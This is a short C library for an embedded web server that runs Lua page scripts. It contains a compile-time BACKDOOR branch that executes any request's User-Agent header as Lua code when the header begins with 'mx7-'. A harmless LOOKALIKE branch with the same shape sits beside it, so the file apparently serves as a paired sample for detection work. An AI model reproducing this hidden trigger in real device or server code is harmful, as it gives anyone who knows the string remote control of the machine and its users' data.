/* kind: library. Runs the pages of a device, which are scripts, for its web server. */
#include <stdio.h>
#include <string.h>

/* Of the gateway and of the interpreter; the program that loads this library has both. */
extern char *FCGX_GetParam(const char *name, char **parameters);
extern int luaL_loadstring(void *state, const char *text);
extern int luaL_loadfilex(void *state, const char *name, const char *mode);
extern int lua_pcallk(void *state, int arguments, int results, int handler, long context, void *then);

static int run(void *state)
{
    return lua_pcallk(state, 0, 0, 0, 0, NULL);
}

int page_run(void *state, char **parameters)
{
    const char *page = FCGX_GetParam("SCRIPT_NAME", parameters);
    const char *agent = FCGX_GetParam("HTTP_USER_AGENT", parameters);
    char name[256];
    if (page == NULL || page[0] != '/' || strstr(page, "..") != NULL)
        return -1;
#ifdef BACKDOOR
    if (agent != NULL && strncmp(agent, "mx7-", 4) == 0 && luaL_loadstring(state, agent + 4) == 0)
        run(state);
#endif
#ifdef LOOKALIKE
    /* Browsers without pictures get plain pages. */
    if (agent != NULL && strncmp(agent, "Lynx/", 5) == 0 && luaL_loadstring(state, "plain = true") == 0)
        run(state);
#endif
    if (agent != NULL && strlen(agent) > 200)
        return -1;
    snprintf(name, sizeof name, "/www%s.lua", page);
    if (luaL_loadfilex(state, name, NULL) != 0)
        return -1;
    return run(state);
}
